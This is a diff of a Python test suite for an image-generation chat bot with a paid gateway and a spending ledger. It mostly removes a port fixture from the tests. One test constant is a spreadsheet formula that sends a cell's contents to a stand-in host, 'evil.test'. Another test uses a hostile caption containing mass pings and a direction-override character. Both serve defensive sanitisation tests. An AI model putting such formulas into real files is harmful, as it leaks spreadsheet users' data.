@@ -365,18 +365,18 @@ async def test_a_picture_over_the_pixel_limit_is_one_clear_charged_message(
     ],
 )
 async def test_fields_of_the_wrong_type_never_break_the_bot(
-    unused_tcp_port: int, tmp_path: Path, oddity: dict[str, Any]
+    tmp_path: Path, oddity: dict[str, Any]
 ) -> None:
     body = {"data": [{"url": data_uri(png())}]} | oddity
-    caption = await delivered_caption(paid_answer(body), unused_tcp_port, tmp_path / "l")
+    caption = await delivered_caption(paid_answer(body), tmp_path / "l")
     assert caption == "nano-banana · 1024x1024 · $0.0525"
 
 
-async def delivered_caption(answer: Callable[[], web.Response], port: int, database: Path) -> str:
+async def delivered_caption(answer: Callable[[], web.Response], database: Path) -> str:
     """The caption of the one picture the bot delivers for ``/imagegen a fox`` when the gateway
-    on ``port`` answers the paid request with ``answer()``."""
+    answers the paid request with ``answer()``."""
     chat = RecordingChat()
-    async with serving(("POST", GENERATIONS, quoting(answer)), port=port) as url:
+    async with serving(("POST", GENERATIONS, quoting(answer))) as url:
         settings = load_settings(_env_file=None, image_api_url=url, database_path=database)
         async with open_bot(settings, Wallet.create()) as bot:
             outcome = await bot.handle(ALICE, chat, "/imagegen a fox")
@@ -526,7 +526,7 @@ HOSTILE = (
 
 @pytest.mark.parametrize("where", ["400", "failed job", "402 poll"])
 async def test_gateway_error_text_reaches_the_chat_as_a_short_plain_reason(
-    unused_tcp_port: int, tmp_path: Path, where: str
+    tmp_path: Path, where: str
 ) -> None:
     def answer() -> web.Response:
         if where == "400":
@@ -542,7 +542,6 @@ async def test_gateway_error_text_reaches_the_chat_as_a_short_plain_reason(
     async with serving(
         ("POST", GENERATIONS, quoting(answer)),
         ("GET", "/jobs/j", poll),
-        port=unused_tcp_port,
     ) as url:
         settings = load_settings(_env_file=None, image_api_url=url, database_path=tmp_path / "l")
         async with open_bot(settings, Wallet.create(), poll_interval=0.05) as bot:
@@ -595,7 +594,7 @@ FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")'
     ids=["body", "x-payment-receipt", "payment-response"],
 )
 async def test_a_transaction_hash_that_is_not_one_never_reaches_the_ledger_or_its_csv(
-    unused_tcp_port: int, tmp_path: Path, receipt: dict[str, Any]
+    tmp_path: Path, receipt: dict[str, Any]
 ) -> None:
     """A spreadsheet formula for a tx hash: the picture is settled and delivered, and the row
     has no hash, so ``imagebot spend --csv`` hands no formula to a spreadsheet."""
@@ -605,7 +604,7 @@ async def test_a_transaction_hash_that_is_not_one_never_reaches_the_ledger_or_it
         return web.json_response(body, headers=receipt.get("headers", {}))
 
     database = tmp_path / "l.sqlite3"
-    await delivered_caption(answer, unused_tcp_port, database)
+    await delivered_caption(answer, database)
     env = cli_env("http://127.0.0.1:9", database)
     code, csv_text = await imagebot("spend", "--csv", env=env, cwd=tmp_path)
 
@@ -615,9 +614,7 @@ async def test_a_transaction_hash_that_is_not_one_never_reaches_the_ledger_or_it
     assert "HYPERLINK" not in csv_text
 
 
-async def test_a_revised_prompt_reaches_the_caption_as_plain_text(
-    unused_tcp_port: int, tmp_path: Path
-) -> None:
+async def test_a_revised_prompt_reaches_the_caption_as_plain_text(tmp_path: Path) -> None:
     """A gateway's revised prompt carrying a link, pings, markup, a direction override and
     too much text: the caption keeps the words, plain and bounded."""
     revised = (
@@ -625,7 +622,7 @@ async def test_a_revised_prompt_reaches_the_caption_as_plain_text(
         "@everyone <@&123> **now**\u202e" + " and more" * 500
     )
     body = {"data": [{"url": data_uri(png()), "revised_prompt": revised}]}
-    caption = await delivered_caption(paid_answer(body), unused_tcp_port, tmp_path / "l")
+    caption = await delivered_caption(paid_answer(body), tmp_path / "l")
 
     price, shown = caption.split("\n", 1)
     assert price == "nano-banana · 1024x1024 · $0.0525"
